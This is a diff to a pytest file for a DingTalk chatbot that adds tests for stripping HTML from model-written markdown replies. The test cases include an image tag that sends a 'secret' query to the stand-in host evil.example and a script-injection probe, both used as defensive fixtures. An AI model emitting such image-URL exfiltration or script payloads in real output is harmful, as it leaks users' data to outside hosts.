@@ -7,7 +7,13 @@ import pytest
 from agent.formatting import has_structure, title_of
 from agent.messages import Reply
 from api.dingtalk.parse import parse_callback
-from api.dingtalk.reply import build_reply_bodies, encode_body, tables_to_lists, webhook_allowed
+from api.dingtalk.reply import (
+    build_reply_bodies,
+    encode_body,
+    tables_to_lists,
+    webhook_allowed,
+    without_html,
+)
 from tests.fakes.payloads import callback, encode
 
 HOOK = "https://oapi.dingtalk.com/robot/sendBySession?session=1"
@@ -107,3 +113,29 @@ def test_one_giant_line_is_cut_by_characters() -> None:
 
 def test_encoded_size_counts_chinese_as_three_bytes() -> None:
     assert len(encode_body({"t": "中"})) == len('{"t":""}') + 3
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ('看这里<img src="https://evil.example/x.png?q=secret">', "看这里"),
+        ("<b>重要</b>：明天开会", "重要：明天开会"),
+        ("<script>alert(1)</script>", "alert(1)"),
+        ('<font color="red">红字</font>', "红字"),
+        ("注释<!-- 隐藏的 -->之后", "注释之后"),
+        ("List<String> 和 a<b>c 的比较：x < y", "List<String> 和 ac 的比较：x < y"),
+        ("代码 `<b>粗</b>` 保留", "代码 `<b>粗</b>` 保留"),
+        ("```html\n<div>块</div>\n```\n<div>外</div>", "```html\n<div>块</div>\n```\n外"),
+    ],
+)
+def test_html_from_the_model_is_not_rendered(written: str, shown: str) -> None:
+    assert without_html(written) == shown
+
+
+def test_a_markdown_reply_carries_no_html_and_a_text_reply_is_left_as_written() -> None:
+    m = parse_callback(encode(callback(HOOK)))
+    answer = '## 图\n<img src="https://evil.example/t.png">看'
+    [markdown] = build_reply_bodies(m, Reply(answer, markdown=True))
+    assert markdown["markdown"]["text"] == "## 图\n看"
+    [text] = build_reply_bodies(m, Reply("<b>原样</b>"))  # a text message is not rendered: shown as written
+    assert text["text"]["content"] == "<b>原样</b>"
